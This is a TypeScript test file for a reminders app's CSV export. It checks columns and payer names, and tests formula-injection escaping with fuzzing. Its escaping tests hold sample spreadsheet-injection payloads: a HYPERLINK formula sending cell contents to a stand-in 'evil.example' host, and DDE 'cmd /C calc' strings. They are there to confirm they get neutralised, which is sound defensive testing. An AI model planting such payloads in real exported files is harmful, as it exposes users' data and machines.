/**
 * The reminders' CSV: a byte-order mark and a header row, one row per reminder, ISO dates, and cells a
 * spreadsheet would run as formulas escaped; any text survives a parse by papaparse.
 */
import Papa from 'papaparse';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Reminder } from '../../shared/api.ts';
import { CSV_COLUMNS, remindersCsv } from '../../shared/csv.ts';
import { oneOffContract } from '../../lambdas/store/reminders/index.ts';
import { aReminder } from '../support/builders.ts';

const reminder = (over: Partial<Reminder> = {}): Reminder =>
  aReminder({
    id: 'r1',
    user_id: 'u1',
    renewal_date: '2027-03-31',
    amount: 480,
    notes: null,
    ...oneOffContract('2027-03-31'),
    created_at: '',
    updated_at: '',
    ...over,
  });

const parse = (csv: string) =>
  Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true });

describe('remindersCsv', () => {
  it('writes a byte-order mark, the header row and every column of each reminder', () => {
    const csv = remindersCsv([
      reminder({
        repeats: 'yearly',
        billing: 'yearly',
        date_kind: 'renewal',
        auto_renew: true,
        act_by: '2027-03-01',
        lead_days: [60, 7],
      }),
      reminder({ title: 'Gym', category: 'subscriptions', amount: null }),
    ]);
    expect(
      csv.startsWith(
        '\uFEFFTitle,Category,Provider,Renewal date,Amount,How often you pay,Amount per year,Date is,Notes,Repeats,',
      ),
    ).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
    const { data, meta } = parse(csv);
    expect(meta.fields).toEqual([...CSV_COLUMNS]);
    expect(data).toEqual([
      {
        Title: 'Home insurance',
        Category: 'insurance',
        Provider: 'Aviva',
        'Renewal date': '2027-03-31',
        Amount: '480.00',
        'How often you pay': 'yearly',
        'Amount per year': '480.00',
        'Date is': 'Renews on',
        Notes: '',
        Repeats: 'yearly',
        'Renews automatically': 'yes',
        'Act by': '2027-03-01',
        'Remind me': '60, 7',
        'Best day to act': 'yes',
        Lender: '',
        'Who pays': '',
        'Price rises in April': '',
      },
      expect.objectContaining({ Title: 'Gym', Amount: '', 'Remind me': '14, 7, 1, 0', Repeats: 'none' }),
    ]);
    // A mortgage deal paid monthly: the amount per payment, what it comes to in a year, and that its
    // date is the deal's end, which does not repeat.
    const deal = reminder({ amount: 1150, billing: 'monthly', date_kind: 'deal_end', repeats: 'none' });
    expect(parse(remindersCsv([deal])).data[0]).toMatchObject({
      Amount: '1150.00',
      'How often you pay': 'monthly',
      'Amount per year': '13800.00',
      'Date is': 'Deal ends',
      Repeats: 'none',
    });
    const oneOff = parse(remindersCsv([reminder({ amount: 300, billing: 'none' })])).data[0];
    expect(oneOff).toMatchObject({ Amount: '300.00', 'Amount per year': '' });
  });

  it('escapes cells that a spreadsheet would run as a formula', () => {
    const { data } = parse(
      remindersCsv([reminder({ title: '=HYPERLINK("http://evil")', provider: '+44 bank' })]),
    );
    expect(data[0]).toMatchObject({ Title: `'=HYPERLINK("http://evil")`, Provider: `'+44 bank` });
  });

  it('escapes formula cells that also hold a line break (papaparse’s own check misses them)', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?d="&A3&B3,"Open policy")\nSee the policy',
      "=cmd|' /C calc'!A0\r\nmore",
      '\t=2+3\nmore',
      '+cmd|" /C calc"!A0\nmore',
    ];
    const { data } = parse(
      remindersCsv(attacks.map((text) => reminder({ title: text, provider: text, notes: text }))),
    );
    attacks.forEach((text, index) => {
      expect(data[index]).toMatchObject({ Title: `'${text}`, Provider: `'${text}`, Notes: `'${text}` });
    });
  });

  it('leaves no cell of any row starting like a formula, whatever text holds line breaks', () => {
    const risky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', ' ');
    const withBreaks = fc
      .tuple(risky, fc.string(), fc.constantFrom('\n', '\r\n', '\r'), fc.string())
      .map(([first, head, lineBreak, tail]) => `${first}${head}${lineBreak}${tail}`);
    fc.assert(
      fc.property(withBreaks, withBreaks, withBreaks, (title, provider, notes) => {
        const { data } = parse(remindersCsv([reminder({ title, provider, notes })]));
        for (const cell of Object.values(data[0]!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(data[0]).toMatchObject({
          Title: `${/^[=+\-@\t\r']/.test(title) ? "'" : ''}${title}`,
          Notes: `${/^[=+\-@\t\r']/.test(notes) ? "'" : ''}${notes}`,
        });
      }),
    );
  });

  it('doubles a leading apostrophe, so the import can tell text from the formula escape', () => {
    const { data } = parse(remindersCsv([reminder({ title: "'=x", notes: "'quoted'" })]));
    expect(data[0]).toMatchObject({ Title: "''=x", Notes: "''quoted'" });
  });

  it('keeps any title and notes intact through a parse (commas, quotes, line breaks, accents)', () => {
    fc.assert(
      fc.property(
        // (Text starting like a formula, or with an apostrophe, is escaped: the tests above.)
        fc.string({ minLength: 1 }).filter((s) => !/^[=+\-@\t\r']/.test(s)),
        fc.string().filter((s) => !/^[=+\-@\t\r']/.test(s)),
        (title, notes) => {
          const { data } = parse(remindersCsv([reminder({ title, notes: notes || null })]));
          expect(data[0]).toMatchObject({ Title: title, Notes: notes });
        },
      ),
    );
  });
});

describe("the export's 'Who pays'", () => {
  it('names a shared bill’s payers by first name, and leaves an own reminder’s empty', () => {
    const [alice, bob] = ['a1111111-1111-4111-8111-111111111111', 'b2222222-2222-4222-8222-222222222222'];
    const names: Record<string, string> = { [alice]: 'Alice', [bob]: 'Bob' };
    const nameOf = (id: string) => names[id] ?? 'A former member';
    const shares = [
      { member: alice, amount: 600 },
      { member: bob, amount: 550 },
    ];
    const csv = remindersCsv(
      [
        reminder({ title: 'Mortgage', amount: 1150, shared: true, who_pays: { split: 'amounts', shares } }),
        reminder({ title: 'Energy', shared: true, who_pays: { split: 'member', member: bob } }),
        reminder({ title: 'Broadband', shared: true, who_pays: null }),
        reminder({ title: 'Gym' }),
      ],
      nameOf,
    );
    expect(parse(csv).data.map((row) => [row.Title, row['Who pays']])).toEqual([
      ['Mortgage', 'Alice £600.00; Bob £550.00'],
      ['Energy', 'Bob'],
      ['Broadband', 'Split equally'],
      ['Gym', ''],
    ]);
  });
});
